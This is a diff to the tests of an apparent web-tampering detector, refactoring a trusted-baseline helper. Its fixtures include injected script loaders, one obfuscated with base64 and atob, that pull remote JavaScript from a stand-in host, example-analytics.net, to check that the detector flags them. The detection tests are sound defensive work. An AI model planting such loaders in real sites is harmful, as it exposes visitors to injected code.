@@ -13,6 +13,7 @@ from tamperwatch.detect.foreign_injection import ForeignInjectionDetector
 from tamperwatch.detect.inline_loads import inline_loads
 
 from .synthetic import news_page, page
+from .test_foreign_injection import trusted_part
 
 EVIL = "https://stats.example-analytics.net/t.js"
 CODES = ",".join(str(ord(c)) for c in EVIL)
@@ -53,17 +54,10 @@ def test_any_inline_code_is_read_without_raising(code: str) -> None:
     assert isinstance(loads(f"<script>{code}</script>"), list)
 
 
-def _trusted(det: ForeignInjectionDetector) -> dict[str, object]:
-    part: dict[str, object] = {}
-    for day in range(3):
-        det.learn_trusted(part, page(news_page(day)))
-    return part
-
-
 def test_an_obfuscated_loader_from_an_unseen_origin_is_content_evidence_with_a_reason() -> None:
     det = ForeignInjectionDetector()
     script = f'<script>var s=document.createElement("script");s.src=atob("{B64}");</script>'
-    [finding] = det.detect(_trusted(det), page(news_page(9, body_extra=script)))
+    [finding] = det.detect(trusted_part(det), page(news_page(9, body_extra=script)))
     assert finding.content and finding.score >= 0.5
     assert "address it hides (encoded), unseen origin example-analytics.net" in finding.reason
 
@@ -73,7 +67,7 @@ def test_a_plain_inline_loader_is_weaker_evidence_than_the_same_script_tag() -> 
     suspicious threshold (it only adds to decisive evidence); the bare tag for the same address
     is content evidence."""
     det = ForeignInjectionDetector()
-    part = _trusted(det)
+    part = trusted_part(det)
     inline = f'<script>var s=document.createElement("script");s.src="{EVIL}";</script>'
     tag = f'<script src="{EVIL}"></script>'
     [by_inline] = det.detect(part, page(news_page(9, body_extra=inline)))
